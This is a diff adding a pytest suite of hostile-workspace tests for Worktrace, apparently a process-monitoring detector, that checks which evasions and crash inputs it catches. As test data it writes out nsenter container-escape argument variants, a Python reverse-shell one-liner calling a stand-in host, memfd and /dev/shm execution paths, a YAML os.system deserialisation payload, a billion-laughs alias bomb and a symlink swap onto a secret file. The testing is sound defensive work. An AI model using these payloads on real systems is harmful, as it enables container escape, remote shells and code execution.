@@ -1,0 +1,291 @@
+"""Hostile-workspace attacks on Worktrace (issue 15): evasion, lying correlation, crashes.
+
+Each test is one attack as a workspace user could mount it with their own processes (their
+execs, names, arguments, sockets) or, for the rules and the follower, as a careless operator
+could be led into. A test that fails is an attack that breaks Worktrace.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from stockade.authz import Authorizer
+from stockade.core.errors import InvalidInput
+from stockade.core.settings import AuthzSettings
+from stockade.worktrace import AnomalyConfig, Engine, load_rules
+from stockade.worktrace._alerts import to_event
+from stockade.worktrace._events import MAX_LINE_BYTES
+from stockade.worktrace._ingest import FileFollower
+from stockade.worktrace._respond import AlertResponder
+
+from .conftest import WORKSPACE_LABELS, exec_event, kprobe_event, line
+
+
+@pytest.fixture(scope="module")
+def engine_rules() -> Any:
+    return load_rules()
+
+
+def fresh(rules: Any) -> Engine:
+    return Engine(rules, anomaly=AnomalyConfig(enabled=False))
+
+
+def rule_ids(engine: Engine, event: dict[str, Any]) -> set[str]:
+    return {a.rule_id for a in engine.feed(line(event)) if a.kind == "rule"}
+
+
+def sock(daddr: str, dport: int) -> dict[str, Any]:
+    return {
+        "sock_arg": {
+            "family": "AF_INET",
+            "type": "SOCK_STREAM",
+            "protocol": "IPPROTO_TCP",
+            "saddr": "10.8.0.12",
+            "daddr": daddr,
+            "sport": 50000,
+            "dport": dport,
+        }
+    }
+
+
+# --- evasion of the nsenter rule ---------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("binary", "arguments"),
+    [
+        ("/usr/bin/../bin/nsenter", "-t 1 -m -u -n -i sh"),
+        ("/usr/bin/nsenter", "--target=1 -a sh"),
+        ("/usr/bin/nsenter", "--target 1 -a sh"),
+        ("/usr/bin/nsenter", "-t1 -a sh"),
+        ("/usr/bin/nsenter", "-a -t 1 sh"),
+        ("/usr/bin/nsenter", "-m  -t   1  sh"),  # oddly split
+    ],
+)
+def test_nsenter_spellings_held(engine_rules: Any, binary: str, arguments: str) -> None:
+    assert "nsenter-target" in rule_ids(fresh(engine_rules), exec_event(binary, arguments))
+
+
+def test_nsenter_through_env_held(engine_rules: Any) -> None:
+    """``env nsenter -t 1``: env execs nsenter, whose own exec event fires."""
+    engine = fresh(engine_rules)
+    assert rule_ids(engine, exec_event("/usr/bin/env", "nsenter -t 1 sh")) == set()
+    assert "nsenter-target" in rule_ids(engine, exec_event("/usr/bin/nsenter", "-t 1 sh"))
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        "-at 1 sh",  # -a takes no argument: getopt reads -t 1 from the same word
+        "-Ft1 sh",  # -F takes none either
+        "--tar=1 -a sh",  # getopt_long accepts any unambiguous prefix of --target
+        "--targ 1 -a sh",
+        "--mount=/proc/1/ns/mnt --net=/proc/1/ns/net sh",  # no -t at all: pid 1's namespaces
+        "--mount /proc/1/ns/mnt sh",
+    ],
+)
+def test_nsenter_getopt_spellings_broke(engine_rules: Any, arguments: str) -> None:
+    """BROKE: the rule's globs are ``-t``, ``-t*``, ``--target``, ``--target=*`` only."""
+    assert "nsenter-target" in rule_ids(
+        fresh(engine_rules), exec_event("/usr/bin/nsenter", arguments)
+    )
+
+
+def test_busybox_nsenter_applet_broke(engine_rules: Any) -> None:
+    """BROKE: ``busybox nsenter -t 1`` is an exec of busybox; the rule keys on the basename."""
+    alerts = rule_ids(fresh(engine_rules), exec_event("/bin/busybox", "nsenter -t 1 -m sh"))
+    assert alerts & {"nsenter-target", "nsenter-busybox"}
+    assert not rule_ids(fresh(engine_rules), exec_event("/bin/busybox", "ls -t /tmp"))
+
+
+def test_renamed_nsenter_caught_by_its_setns_held(engine_rules: Any) -> None:
+    """A renamed copy escapes the exec rule (``~/ns`` only feeds attack paths) but its
+    ``setns`` is still seen by the syscall rule."""
+    engine = fresh(engine_rules)
+    assert rule_ids(engine, exec_event("/home/alice/ns", "-t 1 -m sh")) == set()
+    probe = kprobe_event("sys_setns", [{"int_arg": 3}, {"int_arg": 0}], binary="/home/alice/ns")
+    assert "setns" in rule_ids(engine, probe)
+
+
+# --- drop-and-execute, memfd, /dev/shm --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "binary",
+    ["/memfd: (deleted)", "/memfd:nsenter (deleted)", "/memfd:../../usr/bin/ls", "/proc/self/fd/3"],
+)
+def test_memfd_odd_names_held(engine_rules: Any, binary: str) -> None:
+    assert "memfd-exec" in rule_ids(fresh(engine_rules), exec_event(binary))
+
+
+def test_dev_shm_through_the_loader_broke(engine_rules: Any) -> None:
+    """BROKE: ``ld.so /dev/shm/x`` maps and runs the payload with no exec of it."""
+    event = exec_event("/lib64/ld-linux-x86-64.so.2", "/dev/shm/x")
+    assert rule_ids(fresh(engine_rules), event) & {"exec-dev-shm", "loader-exec-writable"}
+
+
+@pytest.mark.parametrize("binary", ["/dev//shm/x", "/dev/shm/./x", "/tmp/../dev/shm/x"])
+def test_non_canonical_dev_shm_path_broke(engine_rules: Any, binary: str) -> None:
+    """BROKE (if the export carries the path as given to execve): no normalisation."""
+    assert "exec-dev-shm" in rule_ids(fresh(engine_rules), exec_event(binary))
+
+
+# --- reverse shells ------------------------------------------------------------------------
+
+
+def test_bash_dev_tcp_reverse_shell_held(engine_rules: Any) -> None:
+    probe = kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/usr/bin/bash")
+    assert "reverse-shell-connect" in rule_ids(fresh(engine_rules), probe)
+
+
+def test_python_socket_reverse_shell_broke(engine_rules: Any) -> None:
+    """BROKE: python -c 'socket...; os.dup2(s.fileno(), 0..2); pty.spawn("sh")' connects
+    from python3 (not a shell) and then execs a shell: nothing fires."""
+    engine = fresh(engine_rules)
+    code = "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
+    code += "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')"
+    fired = rule_ids(engine, exec_event("/usr/bin/python3", f"-c {code}"))
+    fired |= rule_ids(
+        engine, kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/usr/bin/python3")
+    )
+    fired |= rule_ids(engine, exec_event("/bin/sh"))
+    assert fired & {"reverse-shell-connect", "reverse-shell-netcat"}
+
+
+# --- correlation -------------------------------------------------------------------------
+
+
+def test_crafted_session_label_star_cannot_kill_every_session(engine_rules: Any) -> None:
+    """BROKE: a session id of ``*`` in the alert becomes ``SessionKill(session_id="*")``,
+    which the gateway reads as every session of the user."""
+
+    labels = dict(WORKSPACE_LABELS, **{"stockade.dev/session": "*"})
+    engine = fresh(engine_rules)
+    alerts = engine.feed(line(exec_event("/usr/bin/nsenter", "-t 1 sh", labels=labels)))
+    assert alerts
+    _, events, _ = AlertResponder(Authorizer(settings=AuthzSettings()), bus=None).decide(alerts[0])  # type: ignore[arg-type]
+    assert all(getattr(e, "session_id", "") != "*" for e in events)
+
+
+# --- crashing or slowing the ingester ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        b'{"process_exec": ' + b"x" * (MAX_LINE_BYTES * 10) + b"}",  # a 10 MB line
+        b"[" * 100_000 + b"]" * 100_000,  # deeply nested
+        b'{"process_exec": {"process": {"binary": "\xff\xfe"}}}',  # invalid UTF-8
+        b'{"process_kprobe": {"process": {"exec_id": "eA==", "binary": "/bin/x"},'
+        b' "function_name": "sys_ptrace", "args": [{"weird_arg": {"a": 1}}]}}',
+        b'{"process_exec": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}",
+    ],
+)
+def test_hostile_lines_are_counted_never_fatal(engine_rules: Any, raw: bytes) -> None:
+    engine = fresh(engine_rules)
+    assert engine.feed(raw) == ()
+    assert engine.malformed + engine.unknown == 1
+
+
+def test_exec_id_cycle_is_bounded_held(engine_rules: Any) -> None:
+    engine = Engine(engine_rules, anomaly=AnomalyConfig(learning_events=0, threshold=0.0))
+    a = exec_event("/tmp/a", parent_exec_id="Yg==")
+    a["process_exec"]["process"]["exec_id"] = "YQ=="
+    b = exec_event("/tmp/b", parent_exec_id="YQ==")
+    b["process_exec"]["process"]["exec_id"] = "Yg=="
+    engine.feed(line(b))
+    alerts = engine.feed(line(a))
+    assert all(len(x.ancestry) <= 16 for x in alerts)
+
+
+def test_many_ancestries_stay_bounded_held(engine_rules: Any) -> None:
+    engine = Engine(engine_rules, anomaly=AnomalyConfig(learning_events=0, max_ancestries=100))
+    for n in range(2000):
+        engine.feed(line(exec_event(f"/usr/bin/tool{n}")))
+    assert all(len(c) <= 100 for c in engine._ancestries.values())
+
+
+def test_long_binary_names_do_not_break_the_alert_event_broke(engine_rules: Any) -> None:
+    """BROKE: the anomaly name embeds the ancestry's basenames (255 bytes each, chosen by the
+    user); past 512 characters ``to_event`` raises and the bus sink's loop dies with it."""
+    engine = Engine(engine_rules, anomaly=AnomalyConfig(learning_events=0, threshold=0.0))
+    alerts: list[Any] = []
+    parent = "cGFyZW50"
+    for n, letter in enumerate("ABCD"):
+        event = exec_event("/home/alice/" + letter * 255, parent_exec_id=parent)
+        parent = event["process_exec"]["process"]["exec_id"] = f"bG9uZ{n}"
+        alerts += engine.feed(line(event))
+    anomalies = [a for a in alerts if a.kind == "anomaly"]
+    assert anomalies
+    for alert in anomalies:
+        assert len(to_event(alert).name) <= 512
+
+
+# --- the followed file ------------------------------------------------------------------
+
+
+def test_symlink_swap_to_a_secret_file_is_not_read_broke(tmp_path: Path) -> None:
+    """BROKE (needs write access to the export's directory): a swap of the export for a
+    symlink to another file is followed into it (``os.open`` without ``O_NOFOLLOW``)."""
+    export = tmp_path / "tetragon.log"
+    export.write_bytes(b"")
+    follower = FileFollower(export)
+    follower.poll()
+    secret = tmp_path / "shadow"
+    secret.write_bytes(b"root:$6$secret:19000:0:99999:7:::\n")
+    export.unlink()
+    os.symlink(secret, export)
+    lines: list[bytes] = []
+    for _ in range(3):
+        lines.extend(follower.poll())
+    assert not any(b"secret" in x for x in lines)
+
+
+def test_truncate_and_rewrite_between_polls_broke(tmp_path: Path, engine_rules: Any) -> None:
+    """BROKE (the writer's doing, not the user's): a copytruncate followed by a longer write
+    before the next poll leaves the size above the offset, so the truncation goes unseen and
+    the new line is read from the old offset (lost)."""
+    export = tmp_path / "tetragon.log"
+    export.write_bytes(b"")
+    follower = FileFollower(export)
+    follower.poll()
+    with export.open("ab") as out:
+        out.write(line(exec_event("/usr/bin/true")) + b"\n")
+    assert len(follower.poll()) == 1
+    export.write_bytes(line(exec_event("/usr/bin/false")) + b"\n")  # truncated and rewritten
+    assert len(follower.poll()) == 1
+
+
+# --- rules YAML ------------------------------------------------------------------------
+
+
+def test_python_object_tag_refused_held(tmp_path: Path) -> None:
+    (tmp_path / "r.yaml").write_text(
+        "rules:\n  - !!python/object/apply:os.system ['touch /tmp/pwned-atk15']\n"
+    )
+    with pytest.raises(InvalidInput):
+        load_rules(tmp_path)
+    assert not Path("/tmp/pwned-atk15").exists()
+
+
+def test_billion_laughs_refused_broke(tmp_path: Path) -> None:
+    """BROKE: ``_build`` expands every alias again: 4 levels of 32 here are ~1M nodes built
+    before validation even starts (the real bomb, 9 of 9, never ends)."""
+    text = 'a0: &a0 ["lol"]\n'
+    for n in range(1, 5):
+        text += f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 32) + "]\n"
+    text += "rules: []\n"
+    (tmp_path / "r.yaml").write_text(text)
+    with pytest.raises(InvalidInput, match="alias"):
+        load_rules(tmp_path)
+
+
+def test_deeply_nested_yaml_is_one_line_error_broke(tmp_path: Path) -> None:
+    """BROKE: 5,000 nested flow lists end in RecursionError, not InvalidInput."""
+    (tmp_path / "r.yaml").write_text("rules: " + "[" * 5000 + "]" * 5000 + "\n")
+    with pytest.raises(InvalidInput):
+        load_rules(tmp_path)
